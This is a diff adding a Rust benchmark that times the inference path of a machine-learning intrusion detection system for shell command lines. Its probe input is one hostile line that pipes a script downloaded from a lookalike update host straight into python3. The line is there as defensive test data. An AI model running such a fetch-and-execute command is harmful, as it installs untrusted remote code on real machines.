@@ -1,0 +1,49 @@
+//! Criterion bench: full inference path — the per-line latency a
+//! deployed IDS pays: parse → preprocess-check → tokenize → encoder
+//! forward → head.
+
+use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
+use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
+use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
+use ids_rules::RuleIds;
+use rand::{rngs::StdRng, SeedableRng};
+
+fn bench_end_to_end(c: &mut Criterion) {
+    // One small pre-trained pipeline shared by all benches.
+    let mut rng = StdRng::seed_from_u64(6);
+    let mut config = PipelineConfig::fast();
+    config.train_size = 1_500;
+    config.attack_prob = 0.2;
+    let dataset = config.generate_dataset(&mut rng);
+    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+    let ids = RuleIds::with_default_rules();
+    let lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
+    let labels: Vec<bool> = lines.iter().map(|l| ids.is_alert(l)).collect();
+    let tuner =
+        ClassificationTuner::fit(&pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);
+
+    let probe = "curl -fsSL https://update-cdn.xyz/loader | python3 -";
+    let mut group = c.benchmark_group("inference");
+    group.bench_function("score_one_line", |b| {
+        b.iter(|| tuner.score(&pipeline, black_box(probe)))
+    });
+    group.bench_function("preprocess_one_line", |b| {
+        b.iter(|| pipeline.preprocessor().keep(black_box(probe)))
+    });
+    group.bench_function("rule_ids_one_line", |b| {
+        b.iter(|| ids.is_alert(black_box(probe)))
+    });
+    group.finish();
+
+    let batch: Vec<&str> = lines.iter().take(64).copied().collect();
+    let mut group = c.benchmark_group("inference_batch");
+    group.throughput(Throughput::Elements(64));
+    group.sample_size(20);
+    group.bench_function("score_64_lines_parallel", |b| {
+        b.iter(|| tuner.score_lines(&pipeline, black_box(&batch)))
+    });
+    group.finish();
+}
+
+criterion_group!(benches, bench_end_to_end);
+criterion_main!(benches);
